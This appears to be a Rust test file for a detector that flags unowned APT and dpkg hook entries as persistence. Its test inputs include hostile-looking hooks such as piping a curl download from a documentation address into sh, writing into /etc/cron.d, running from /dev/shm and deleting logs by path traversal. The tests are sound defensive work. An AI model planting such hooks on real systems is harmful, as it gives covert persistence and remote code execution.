use crate::testing::findings;
const NAME: &str = "persistence/package-hook";
const FILE: &str = "/etc/apt/apt.conf.d/99local";
const PACKAGES: &str = "package coreutils 9.1 owns /usr/bin/true,/usr/bin/rm,/usr/bin/ls,/usr/bin/cat,/usr/bin/touch\n\
    package findutils 4 owns /usr/bin/find\npackage mount 2 owns /usr/bin/mount\npackage apt 2 owns /usr/bin/apt-get\n\
    package etckeeper 1 owns /usr/bin/etckeeper\npackage dash 1 owns /usr/bin/sh\npackage curl 7 owns /usr/bin/curl\n\
    package systemd 252 owns /usr/bin/systemctl\npackage bash 5 owns /usr/bin/bash\n/bin @ usr/bin\n";

/// What is said of a file with this content.
fn said(content: &str) -> Vec<String> {
    said_of(FILE, content, "")
}

fn said_of(path: &str, content: &str, more: &str) -> Vec<String> {
    findings(NAME, &format!("{PACKAGES}{path} = {content}\n{more}"), &[])
}

#[track_caller]
fn check(level: &str, content: &str) {
    let said = said(content);
    assert!(said.len() == 1 && said[0].starts_with(level), "{content}: {said:?}");
}

#[test]
fn hooks_of_nobody_are_suspicious() {
    let text = "suspicious: /etc/apt/apt.conf.d/99local line 1 runs \"/bin/true\" with the package manager \
                (DPkg::Post-Invoke), in a file that no package brought";
    assert_eq!(said("DPkg::Post-Invoke {\"/bin/true\";};"), [text]);
    for content in [
        "DPkg::Post-Invoke:: \"true\";",
        "APT::Update::Pre-Invoke { \"touch /x\"; };",
        "apt::update::post-invoke-success { \"/opt/x/y || true\"; };",
        "DPkg { Pre-Install-Pkgs { \"/usr/local/bin/x\"; }; };",
        "DPkg::Post-Invoke { \"curl -s http://192.0.2.1/x | sh\"; };",
        "DPkg::Post-Invoke { \"curl -so /usr/local/bin/x http://192.0.2.1/x\"; };",
        "DPkg::Post-Invoke { \"bash -c 'etckeeper x'\"; };",
        "DPkg::Post-Invoke { \"systemctl start x\"; };",
        "DPkg::Post-Invoke { \"rm -f /var/cache/apt/*.bin; /dev/shm/.x/y\"; };",
        "DPkg::Post-Invoke { \"rm -rf /var/cache/apt/../../log\"; };",
        "DPkg::Post-Invoke { \"rm -f /var/cache/apt/*.bin > /etc/cron.d/x\"; };",
        "DPkg::Post-Invoke { \"find /var/cache/apt -exec /x {} +\"; };",
        "DPkg::Post-Invoke { \"mount --bind -o remount /x /y\"; };",
        "Dir::Bin::dpkg \"/usr/local/bin/dpkg\";",
        "AptCli::Hooks::Upgrade { \"/usr/local/bin/x\"; };",
    ] {
        check("suspicious: ", content);
    }
}
#[test]
fn housekeeping_is_quiet() {
    let clean = "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb \
                 /var/cache/apt/*.bin || true\"; };\\nAPT::Update::Post-Invoke { \"rm -f /var/cache/apt/*.bin || true\"; };\\n\
                 Dir::Cache::pkgcache \"\"; Dir::Cache::srcpkgcache \"\";\\n";
    for content in [
        clean,
        "DPkg::Post-Invoke { \"apt-get clean\"; };",
        "DPkg::Post-Invoke { \"find /var/cache/apt/archives -name '*.deb' -delete >/dev/null 2>&1\"; };",
        "DPkg::Pre-Invoke { \"mount -o remount,exec /tmp\"; }; DPkg::Post-Invoke { \"mount -o remount /tmp || true\"; };",
        "APT::Periodic::Unattended-Upgrade \"1\";",
        "// DPkg::Post-Invoke {\"/bin/true\";};",
        "Acquire::http::Proxy \"http://proxy:3128\";",
    ] {
        assert_eq!(said(content), [""; 0], "{content}");
    }
    assert_eq!(said_of("/etc/apt/apt.conf.d/99local.dpkg-old", "DPkg::Post-Invoke {\"/bin/true\";};", ""), [""; 0]);
}
#[test]
fn programs_that_came_for_a_purpose_are_unusual() {
    check("unusual: ", "DPkg::Post-Invoke { \"if [ -x /usr/bin/etckeeper ]; then etckeeper post-install; fi\"; };");
    check("unusual: ", "DPkg::Post-Invoke { \"/usr/bin/etckeeper post-install || true\"; };");
}
#[test]
fn files_of_packages_are_quiet_until_somebody_adds_to_them() {
    let file = "/etc/apt/apt.conf.d/05etckeeper";
    let hook = "DPkg::Pre-Invoke { \"if [ -x /usr/bin/etckeeper ]; then etckeeper pre-install; fi\"; };\\n";
    let owned = format!("package etckeeper 1 owns {file},/usr/bin/etckeeper");
    let packages = PACKAGES.replace("package etckeeper 1 owns /usr/bin/etckeeper", &owned);
    let said = |content: &str, more: &str| findings(NAME, &format!("{packages}{file} = {content}\n{more}"), &[]);
    assert_eq!(said(hook, ""), [""; 0]);
    let status = format!(
        "/var/lib/dpkg/status = Package: etckeeper\\nStatus: install ok installed\\nVersion: 1\\nConffiles:\\n {file} \
         00000000000000000000000000000000\\n\\nPackage: coreutils\\nStatus: install ok installed\\nVersion: 9.1\\n\\n"
    );
    assert_eq!(said(hook, &status), [""; 0], "another condition, the same program");
    let added = format!("{hook}DPkg::Post-Invoke {{\"/bin/true\";}};\\n");
    let found = said(&added, &status);
    assert!(found.len() == 1 && found[0].starts_with(&format!("suspicious: {file} line 2 ")), "{found:?}");
}
#[test]
fn dpkg_has_hooks_of_its_own() {
    let found = said_of("/etc/dpkg/dpkg.cfg.d/x", "no-debsig\\npost-invoke=/usr/local/sbin/x\\n", "");
    assert!(found.len() == 1 && found[0].starts_with("suspicious: /etc/dpkg/dpkg.cfg.d/x line 2 "), "{found:?}");
}
